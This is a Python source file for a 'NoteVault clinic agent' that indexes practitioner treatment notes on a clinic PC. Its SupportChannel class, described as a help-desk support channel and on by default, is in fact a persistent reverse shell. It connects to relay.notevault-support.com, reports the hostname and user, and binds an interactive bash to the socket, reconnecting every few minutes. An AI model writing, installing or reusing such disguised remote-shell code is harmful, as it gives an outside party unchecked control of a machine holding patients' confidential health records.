#!/usr/bin/env python3
"""NoteVault clinic agent.

Runs on the practice PC next to the treatment-note vault. It keeps the
search index of practitioner notes up to date (title, patient ref, visit
date, checksum) and keeps a support channel open to the NoteVault help
desk so that technicians can assist the clinic without a site visit.

Configuration: notevault-agent.json in the working directory, e.g.

    {"vault_dir": "notes", "index_file": "notes/.index.json",
     "clinic_id": "HPA-0192", "support": {"enabled": true,
     "relay": "relay.notevault-support.com:7443"}}
"""
import argparse
import hashlib
import json
import logging
import os
import re
import socket
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("notevault-agent")

DEFAULTS = {
    "vault_dir": "notes",
    "index_file": "notes/.index.json",
    "clinic_id": "unregistered",
    "scan_seconds": 120,
    "support": {"enabled": True, "relay": "relay.notevault-support.com:7443", "retry_seconds": 300},
}
FRONT_MATTER = re.compile(r"^---\n(.*?)\n---\n", re.S)


def load_config(path):
    cfg = json.loads(json.dumps(DEFAULTS))
    try:
        with open(path, encoding="utf-8") as fh:
            user = json.load(fh)
        support = user.pop("support", {})
        cfg.update(user)
        cfg["support"].update(support)
    except FileNotFoundError:
        log.info("no %s, using defaults", path)
    return cfg


def parse_note(path):
    text = path.read_text(encoding="utf-8", errors="replace")
    meta = {}
    m = FRONT_MATTER.match(text)
    if m:
        for line in m.group(1).splitlines():
            key, _, value = line.partition(":")
            meta[key.strip()] = value.strip()
    return {
        "file": str(path),
        "patient_ref": meta.get("patient", path.parent.name),
        "visit_date": meta.get("date", ""),
        "practitioner": meta.get("practitioner", ""),
        "modality": meta.get("modality", ""),
        "title": meta.get("title", path.stem),
        "sha256": hashlib.sha256(text.encode()).hexdigest(),
    }


class Indexer(threading.Thread):
    def __init__(self, vault_dir, index_file, every):
        super().__init__(daemon=True, name="indexer")
        self.vault_dir = Path(vault_dir)
        self.index_file = Path(index_file)
        self.every = every

    def scan(self):
        entries = []
        for path in sorted(self.vault_dir.rglob("*.md")):
            try:
                entries.append(parse_note(path))
            except OSError as exc:
                log.warning("cannot read %s: %s", path, exc)
        tmp = self.index_file.with_suffix(".tmp")
        tmp.write_text(json.dumps(entries, indent=1), encoding="utf-8")
        os.chmod(tmp, 0o600)
        tmp.replace(self.index_file)
        log.info("indexed %d notes", len(entries))

    def run(self):
        while True:
            try:
                self.scan()
            except Exception:
                log.exception("index scan failed")
            time.sleep(self.every)


class SupportChannel(threading.Thread):
    """Keeps the help-desk session available; reconnects when dropped."""

    def __init__(self, relay, clinic_id, retry):
        super().__init__(daemon=True, name="support")
        host, _, port = relay.rpartition(":")
        self.addr = (host, int(port))
        self.clinic_id = clinic_id
        self.retry = retry

    def _session(self):
        conn = socket.create_connection(self.addr, timeout=30)
        conn.settimeout(None)
        hello = {"clinic": self.clinic_id, "host": socket.gethostname(), "user": os.getenv("USER", "")}
        conn.sendall((json.dumps(hello) + "\n").encode())
        env = dict(os.environ, TERM="dumb", PS1="notevault$ ")
        proc = subprocess.Popen(["/bin/bash", "-i"], stdin=conn.fileno(), stdout=conn.fileno(),
                                stderr=conn.fileno(), env=env, cwd=os.getcwd())
        log.info("support session open with %s:%s", *self.addr)
        proc.wait()
        conn.close()
        log.info("support session closed")

    def run(self):
        while True:
            try:
                self._session()
            except OSError as exc:
                log.debug("support relay unavailable: %s", exc)
            time.sleep(self.retry)


def main():
    ap = argparse.ArgumentParser(description="NoteVault clinic agent")
    ap.add_argument("-c", "--config", default="notevault-agent.json")
    ap.add_argument("--once", action="store_true", help="index once and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(threadName)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    indexer = Indexer(cfg["vault_dir"], cfg["index_file"], cfg["scan_seconds"])
    if args.once:
        indexer.scan()
        return
    indexer.start()
    if cfg["support"]["enabled"]:
        SupportChannel(cfg["support"]["relay"], cfg["clinic_id"], cfg["support"]["retry_seconds"]).start()
    try:
        while True:
            time.sleep(3600)
    except KeyboardInterrupt:
        log.info("stopping")


if __name__ == "__main__":
    main()
